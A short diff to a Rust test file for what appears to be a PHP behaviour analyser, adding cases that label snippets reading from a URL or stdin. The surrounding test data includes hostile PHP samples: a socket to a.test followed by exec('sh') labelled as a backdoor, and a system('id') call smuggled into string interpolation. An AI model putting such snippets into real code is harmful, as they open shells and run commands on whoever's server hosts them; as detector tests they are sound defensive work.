@@ -56,6 +56,8 @@ fn php_that_does_more_says_what() {
             ("file_put_contents('/etc/x', 'y');", "write /etc/x"),
             ("fopen('a', 'w');", "write a"),
             ("echo file_get_contents('a');", "read a"),
+            ("echo file_get_contents('https://a.test/x');", "connect https://a.test/x"),
+            ("echo file_get_contents('php://stdin');", ""),
             ("unlink(\"/etc/$x\");", "delete /etc/? Single"),
             ("$s = fsockopen('a.test', 9); exec('sh');", "connect a.test; shell sh; !Backdoor"),
             ("echo \"{$x->y(system('id'))}\";", "shell id"),
